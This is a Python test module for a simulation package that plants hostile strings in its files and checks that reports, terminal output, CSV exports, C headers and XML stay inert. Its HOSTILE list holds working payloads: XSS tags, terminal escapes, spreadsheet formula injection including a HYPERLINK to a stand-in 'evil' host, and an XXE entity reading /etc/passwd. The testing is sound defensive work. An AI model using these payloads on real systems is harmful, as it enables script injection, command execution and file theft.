"""Text that attacks what shows it, in every string of every file: pages, terminals, CSV, C, XML."""

import csv
import io
import json
import re
import shutil
import sys
from contextlib import suppress
from html.parser import HTMLParser
from importlib.resources import files
from xml.etree import ElementTree as ET

import h5py
import numpy as np
import pytest
from typer.testing import CliRunner

import tractive_sam as ts
from tests.browser import Tab, needs_browser
from tests.pages.test_browser import DRAWN
from tests.studies.conftest import small
from tests.tables.test_written import of_any
from tractive_sam import pages
from tractive_sam.cli import app
from tractive_sam.lookup import c_sources, columns_of
from tractive_sam.plot.figure import Figure
from tractive_sam.schema import SceneError
from tractive_sam.store import GapError, ResultsError, layout, open_history, read_gap
from tractive_sam.store.texts import create_text, decode_text, set_text
from tractive_sam.studies import open_study, study
from tractive_sam.studies.folder import Folder
from tractive_sam.tables.file import write_table
from tractive_sam.tables.fmu_description import Description2

RUN = "window.PWNED=1;document.title='PWNED'"
HOSTILE = (
    f"</script><script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'"><svg onload="{RUN}">\'',
    f"</pre></title></style><script>{RUN}</script><!--",
    f"&lt;img src=x onerror=&quot;{RUN}&quot;&gt;",
    f'<a href="javascript:{RUN}">%{{x}}</a>',
    "\x1b]0;owned\x07\x1b[31mred\x1b[2J \x9b31m",
    "\u202egnp.exe\u2066 \u2028 \x00\r",
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "*/ #include </etc/passwd> /*",
    "]]><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y; @NAME@ ${title} $title",
)
HARMLESS = "plain words"
BLOCKS = ({"name": HARMLESS, "revolutions": 2}, {"name": "other", "revolutions": 2})
KEPT_JSON = (layout.USER, "versions")


# ---- what is shown ------------------------------------------------------------------------------
class Elements(HTMLParser):
    """Names of elements and attributes of a page, and the content of its scripts."""

    def __init__(self, page):
        super().__init__()
        self.found, self.scripts, self._inside = set(), [], False
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        self.found.add((tag, *sorted(name for name, _ in attributes)))
        self._inside = tag == "script"
        self.scripts += [""] if self._inside else []

    def handle_endtag(self, tag):
        self._inside = False

    def handle_data(self, data):
        if self._inside:
            self.scripts[-1] += data


def check_terminal(text):
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text), text


def check_csv(text):
    check_terminal(text)
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            with suppress(ValueError):
                float(cell)
                continue
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def check_page(page, harmless):
    found, before = Elements(page), Elements(harmless)
    assert found.found <= before.found
    drawing, data, *own = found.scripts
    assert (drawing, *own) == (before.scripts[0], *before.scripts[2:])
    json.loads(data)
    check_terminal(page)


def called(*arguments):
    """Return the output of a command, which must end without a signal."""
    result = CliRunner().invoke(app, [str(one) for one in arguments])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    check_terminal(result.output)
    return result.stdout


# ---- strings of files ---------------------------------------------------------------------------
def leaves(value, at=()):
    """Places of all strings in nested lists and mappings of JSON or TOML."""
    if isinstance(value, str):
        yield at
    if isinstance(value, dict | list):
        for key, one in value.items() if isinstance(value, dict) else enumerate(value):
            yield from leaves(one, (*at, key))


def with_leaf(value, at, text):
    """Return the tables with another text at a place."""
    if not at:
        return text
    copy = dict(value) if isinstance(value, dict) else list(value)
    copy[at[0]] = with_leaf(value[at[0]], at[1:], text)
    return copy


def texts_of(path):
    """Places of all strings of an HDF5 file: (object, attribute or None, place in its JSON)."""
    places = []

    def look(name, item):
        for key, value in item.attrs.items():
            if isinstance(value, str | bytes):
                inner = leaves(json.loads(decode_text(value))) if key in KEPT_JSON else [()]
                places.extend((name, key, at) for at in inner)
        if isinstance(item, h5py.Dataset) and item.dtype.kind in "OS" and item.size:
            places.append((name, None, ()))

    with h5py.File(path) as file:
        look("/", file)
        file.visititems(look)
    return places


def put(path, places, text):
    """Set strings of an HDF5 file; of a scene its title and names of blocks."""
    with h5py.File(path, "r+") as file:
        for name, key, at in places:
            item = file[name]
            if key is not None:
                whole = decode_text(item.attrs[key])
                set_text(item, key, json.dumps(with_leaf(json.loads(whole), at, text))
                         if key in KEPT_JSON else text.replace("\0", ""))  # fmt: skip
            elif item.shape == () and name == "scene":
                about = dict(item.attrs)
                scene = ts.Scene.from_toml_text(decode_text(item[()]))
                blocks = [one.entries() for one in scene.duty]
                named = ({**blocks[0], "name": text}, *blocks[1:])
                toml = scene.replace(title=text, duty=named).to_toml()
                del file[name]
                create_text(file, name, toml).attrs.update(about)
                set_text(file[name], "digest", layout.digest(toml))
            else:
                item[...] = np.full(item.shape, text.replace("\0", "").encode())


@pytest.fixture(scope="module")
def results(tmp_path_factory):
    """A results file of a duty cycle with a column that is not the package's."""
    path = tmp_path_factory.mktemp("results") / "results.h5"
    scene = ts.Scene.builtin("twin-discs").replace(
        title=HARMLESS, subsurface=None, duty=BLOCKS, **{"wear.revolutions": 16, "wear.save": (16,)}
    )
    few = {"grid.half_length": (0.35, 0.7), "grid.elements": (15, 21)}
    share = ts.Quantity("share", "N", "share", lambda contact: contact.Qx + contact.wear.max())
    ts.roll(scene.replace(**few), path, columns=[share], progress=False)
    return path


@pytest.fixture
def without_plotly(monkeypatch):
    monkeypatch.setattr(sys.modules[pages.report.__module__], "_plotly", lambda: ("0;", {}))


def kind_of_place(place):
    """What places in the entries of different columns have in common."""
    _, attribute, at = place
    return str(attribute), *[key for key in at if isinstance(key, str)][-1:]


def find_accepted(results, path, places):
    """Return the places at which a results file takes any text: halves of a refused set in turn."""
    path.write_bytes(results.read_bytes())
    with suppress(SceneError, ResultsError):
        put(path, places, HOSTILE[0])
        open_history(path)
        return places
    if len(places) == 1:
        return []
    half = len(places) // 2
    parts = places[:half], places[half:]
    return [place for part in parts for place in find_accepted(results, path, part)]


@pytest.mark.slow  # every string of a results file
def test_results(results, tmp_path, without_plotly, record_property):
    path, page = tmp_path / "r.h5", tmp_path / "r.html"
    harmless = pages.report(open_history(results), page).read_text("utf-8")
    places = sorted(texts_of(results), key=kind_of_place)
    found = find_accepted(results, path, places)
    assert len(places) > 100
    assert {("scene", None, ()), ("scene", "message", ()), ("scene", "status", ())} <= set(found)
    assert ("/history", layout.USER, (0, "unit")) in {(f"/{n}", k, at) for n, k, at in found}
    record_property("shown", len(found) * len(HOSTILE))
    for text in HOSTILE:
        path.write_bytes(results.read_bytes())
        put(path, found, text)
        try:
            history = open_history(path)
        except ResultsError:  # of control characters in names of columns
            check_terminal(called("show", path))
            path.write_bytes(results.read_bytes())
            put(path, [one for one in found if one[1] != layout.USER], text)
            history = open_history(path)
        check_page(pages.report(history, page).read_text("utf-8"), harmless)
        assert Elements(history._repr_html_()).found <= {
            ("table",), ("tr",), ("th", "style"), ("td", "style"), ("div", "style"), ("div",),
            ("img", "alt", "src", "width"),
        }  # fmt: skip
        check_terminal(repr(history))
        called("show", path)
        json.loads(called("show", path, "--json"))
        check_csv(called("show", path, "--csv"))
    refused = {kind_of_place(place): place for place in places if place not in found}
    for number, place in enumerate(refused.values()):
        path.write_bytes(results.read_bytes())
        with suppress(SceneError):
            put(path, [place], HOSTILE[number % len(HOSTILE)])
            called("show", path)


@pytest.mark.slow
@pytest.mark.parametrize("text", HOSTILE)
def test_scenes_and_studies(tmp_path, text):
    """Every string of a scene and of a study: refused with a message, or taken as text."""
    scene = ts.Scene.builtin("twin-discs").entries()
    scene |= {"title": "a", "duty": [dict(one) for one in BLOCKS]}
    requested = small(title="a").entries()
    for given, make in ((scene, ts.Scene), (requested, ts.Study)):
        tables = json.loads(json.dumps(given, default=str))
        for at in leaves(tables):
            changed = with_leaf(tables, at, text)
            try:
                made = make(**changed)
            except (SceneError, TypeError, ValueError):
                continue
            (tmp_path / "a.toml").write_text(made.to_toml(), "utf-8")
            called("explain", tmp_path / "a.toml")
            check_terminal(repr(made))


@pytest.fixture(scope="module")
def computed(tmp_path_factory):
    folder = tmp_path_factory.mktemp("study") / "a"
    mu = {"key": "friction.mu", "values": [0.2, 0.4]}
    study(small(mu, title="a", keep="scalars"), folder, workers=0)
    return folder


@pytest.mark.slow
@pytest.mark.parametrize("text", HOSTILE)
def test_folders_of_studies(computed, tmp_path, text):
    """The title of a study, what is stored of its cases, and why one failed."""
    folder = shutil.copytree(computed, tmp_path / "b")
    toml = folder / "study.toml"
    entries = ts.Study.from_toml(toml).entries() | {"title": text}
    toml.write_text(ts.schema.toml.emit(entries), "utf-8")
    log = Folder(folder).log
    first, second = log.read().entries.values()
    log.append(dict(first) | {"message": text, "version": text})
    whole = log.path.read_text("utf-8")
    log.path.write_text(f"{whole}\n{text}", "utf-8")
    (folder / f"{second['digest']}.txt").write_text(f"{text}\n\n{text}", "utf-8")
    called("study-show", folder, "--csv", tmp_path / "a.csv")
    found = (tmp_path / "a.csv").read_text("utf-8")
    check_csv(found)
    assert "complete" in found
    called("study-show", folder)
    html = Elements(open_study(folder)._repr_html_())
    assert {one[0] for one in html.found} <= {"table", "tr", "th", "td", "div", "img"}


@pytest.fixture
def table_file(tmp_path):
    write_table(of_any(), tmp_path / "table.nc")
    return tmp_path / "table.nc"


def code_of(header):
    """What a compiler sees of a header."""
    return re.sub(r"/\*.*?\*/", "", header, flags=re.DOTALL)


@pytest.mark.slow
@pytest.mark.parametrize("text", HOSTILE)
def test_tables(table_file, text):
    original = ts.open_table(table_file)
    code = code_of("".join(c_sources(original).values()))
    shapes = [
        (one.tag, *one.keys()) for one in ET.fromstring(Description2(original, "a", "b").model)
    ]
    for name in ("title", "design", "version", "scaling", "format", "axes", "apart"):
        with h5py.File(table_file, "r+") as file:
            before = file.attrs.get(name, "")
            file.attrs[name] = text.replace("\0", "")
        called("show", table_file)
        with suppress(ResultsError):
            table = ts.open_table(table_file)
            header = "".join(c_sources(table).values())
            assert header.isascii()
            assert code_of(header) == code
            found = ET.fromstring(Description2(table, "a", "b").model)
            assert [(one.tag, *one.keys()) for one in found] == shapes
            check_terminal(columns_of(table)[:2000])
            called("show", table_file, "--json")
        with h5py.File(table_file, "r+") as file:
            file.attrs[name] = before


@pytest.mark.parametrize("text", HOSTILE)
def test_columns_of_text(tmp_path, text):
    """Cells of gaps and load histories: what is wrong is named without commanding a terminal."""
    for rows in (f"{text},y,separation\n0,0,0\n", f"x,y,separation\n0,{text},0\n", text):
        path = tmp_path / "a.csv"
        path.write_text(rows, "utf-8", newline="")
        with pytest.raises(GapError):
            read_gap(path)
        entries = ts.Scene.builtin("twin-discs").entries()
        for key, extra in (("gap", {}), ("load_history", {"levels": 2})):
            toml = tmp_path / "a.toml"
            toml.write_text(
                ts.schema.toml.emit(entries | {key: {"file": str(path)} | extra}), "utf-8"
            )
            called("run", toml, "-o", tmp_path / "never.h5")


def test_labels_of_figures(tmp_path):
    """Warnings are errors here: fonts lack control characters, and say so of each."""
    figure = Figure()
    axes = figure.subplots()
    axes.plot([1, 2], label=HOSTILE[6].replace("\n", ""))
    axes.legend()
    figure.savefig(tmp_path / "a.png")
    check_terminal(axes.get_legend().get_texts()[0].get_text())


def test_script_of_the_page_parses_no_text_as_html():
    script = (files("tractive_sam.pages") / "report.js").read_text("utf-8")
    assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(", script)


@pytest.mark.slow
@needs_browser
def test_in_a_browser(results, tmp_path):
    """A page with only hostile texts runs nothing, requires nothing, and is drawn."""
    path = tmp_path / "r.h5"
    path.write_bytes(results.read_bytes())
    # Each of the texts that would run something, in places of every kind.
    places = [one for one in texts_of(path) if one[0].strip("/") in ("", "scene", "history")]
    places.sort(key=kind_of_place)
    found = find_accepted(results, tmp_path / "one.h5", places)
    for number, place in enumerate(found):
        put(path, [place], HOSTILE[number % 6])
    page = ts.report(open_history(path), tmp_path / "page.html")
    with Tab(page.as_uri(), tmp_path / "profile", 1440, height=12000) as tab:
        figures = tab.run(DRAWN)
        run = tab.run("[typeof window.PWNED, document.title == 'PWNED']")
        requested = [one for one in tab.requests if not one.startswith(("file:", "data:", "blob:"))]
        assert (tab.errors, requested, figures["undrawn"]) == ([], [], [])
    assert run == ["undefined", False]
    assert figures["charts"] > 5
